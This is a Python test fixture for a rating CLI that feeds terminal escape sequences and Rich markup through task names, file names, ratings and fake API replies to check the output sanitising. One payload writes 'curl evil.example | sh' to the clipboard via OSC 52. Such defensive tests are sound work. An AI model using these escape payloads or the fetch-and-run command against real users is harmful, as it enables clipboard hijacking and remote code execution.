"""A study file a hostile colleague prepared: every name, id, reply and error body carries terminal
escapes (OSC 52 writes the clipboard, OSC 0 sets the title, CSI 2J clears the screen) and Rich markup
(``[/]`` breaks the parser, ``[bold red]``, ``[link=…]``). Built through the real CLI: a custom task
file, an items file (itself with escapes in its name), imported ratings, and API judges on a loopback
server whose replies and error bodies carry the same."""

from __future__ import annotations

import base64
import contextlib
import csv
import json
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from tests.judge.test_api import Script, ok_body
from tests.support import run_cli_process

ESC, BEL = "\x1b", "\x07"
CLIPBOARD = "curl evil.example | sh"
OSC52 = f"{ESC}]52;c;{base64.b64encode(CLIPBOARD.encode()).decode()}{BEL}"
TITLE = f"{ESC}]0;pwned-title{BEL}"
CLEAR = f"{ESC}[2J{ESC}[H"
MARKUP = "[/][bold red]red[link=https://evil.example]link[/link]"
EVIL = OSC52 + TITLE + CLEAR + MARKUP
# what must never reach a terminal: ESC, BEL, and the C1 forms of CSI and OSC
RAW = ("\x1b", "\x07", "\x9b", "\x9d")

TASK_NAME = "rate" + EVIL
ATTRIBUTE = "q" + EVIL
ITEM_ID = "a" + EVIL
SYSTEM = "sys" + EVIL
RATER = "mallory [/]"
RATER_2 = "eve" + EVIL
JUDGE_MODEL = "api:judge" + EVIL
TASK_TOML = f"""
[[task]]
name = {json.dumps(TASK_NAME)}
instructions = {json.dumps("Rate it. " + EVIL)}
fields = ["text"]
[[task.attributes]]
name = {json.dumps(ATTRIBUTE)}
question = {json.dumps("How good? " + EVIL)}
scale = {{ kind = "likert", low = 1, high = 5 }}
[[task.attributes]]
name = "plain"
question = "How plain?"
scale = {{ kind = "likert", low = 1, high = 5 }}
"""


@dataclass
class HostileStudy:
    db: Path
    task_file: Path
    items_file: Path
    outputs: list[tuple[str, int, str, str]]  # (command, exit status, stdout, stderr) of the building


def write_inputs(folder: Path) -> tuple[Path, Path, Path]:
    task_file = folder / "tasks.toml"
    task_file.write_text(TASK_TOML, encoding="utf-8")
    items = folder / f"items{TITLE}.csv"  # a file name with escapes, quoted by import's messages
    with open(items, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "system", "text"])
        writer.writerow([ITEM_ID, SYSTEM, "Hello " + EVIL])
        writer.writerow(["b", "plain", "A plain text."])
        writer.writerow(["c", SYSTEM, "Another text " + MARKUP])
    ratings = folder / "ratings.csv"
    with open(ratings, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["item", "rater", "attribute", "value"])
        for rater, values in ((RATER, (4, 2, 5)), (RATER_2, (3, 3, 1))):
            for item, value in zip((ITEM_ID, "b", "c"), values):
                writer.writerow([item, rater, ATTRIBUTE, value])
                writer.writerow([item, rater, "plain", 6 - value])
    return task_file, items, ratings


@contextlib.contextmanager
def loopback_servers():
    """Start OpenAI-compatible servers on 127.0.0.1 that answer what a ``Script`` says (as
    tests.judge.test_api's ``fake_server`` fixture, usable outside a test function)."""
    servers = []

    def start(script: Script) -> str:
        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                self.rfile.read(int(self.headers.get("content-length", 0)))
                status, headers, body, _delay = script.next()
                self.send_response(status)
                for key, value in {"content-type": "application/json", **headers}.items():
                    self.send_header(key, value)
                self.end_headers()
                self.wfile.write(body.encode())

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}/v1"

    try:
        yield start
    finally:
        for server in servers:
            server.shutdown()


def build(folder: Path, fake_server) -> HostileStudy:
    """The study, through the real CLI; ``fake_server`` starts a loopback server (``loopback_servers``)."""
    db = folder / "hostile.db"
    task_file, items, ratings = write_inputs(folder)
    outputs = []

    def run(*args: object) -> None:
        result = run_cli_process(*args)
        outputs.append((" ".join(map(str, args[:1])), result.returncode, result.stdout, result.stderr))

    run("import", items, "--task", TASK_NAME, "--task-file", task_file, "--db", db)
    run("import-ratings", ratings, "--db", db)
    replying = fake_server(Script([(200, {}, ok_body("Rating: 4. " + EVIL), 0)]))
    run("judge", "--db", db, "--model", JUDGE_MODEL, "--base-url", replying, "--samples", "1", "--max-retries", "0")
    error_body = json.dumps({"error": {"message": "refused " + EVIL, "type": EVIL}})
    refusing = fake_server(Script([(400, {}, error_body, 0)]))
    run("judge", "--db", db, "--model", "api:other" + EVIL, "--base-url", refusing, "--samples", "1")
    return HostileStudy(db, task_file, items, outputs)
